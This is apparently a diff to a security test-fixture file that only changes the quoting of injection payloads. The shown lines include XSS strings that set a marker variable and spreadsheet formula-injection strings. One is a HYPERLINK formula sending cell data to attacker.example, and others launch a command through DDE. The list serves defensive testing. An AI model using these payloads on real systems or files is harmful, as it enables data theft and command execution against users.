@@ -20,7 +20,7 @@ XSS = [
     "<body onload=window.__pwned=1>",
     '<div style="background:url(javascript:window.__pwned=1)">x</div>',
     "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
-    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
+    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
     '"><script>window.__pwned=1</script>',
     "'\"><img src=x onerror=window.__pwned=1>",
     "<details open ontoggle=window.__pwned=1>",
@@ -70,7 +70,7 @@ SSRF_HOSTS = [
 # Spreadsheet formulas: each would run or fetch if a CSV cell began with it.
 FORMULAS = [
     "=1+1",
-    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
+    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
     "+1+1",
     "-1+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
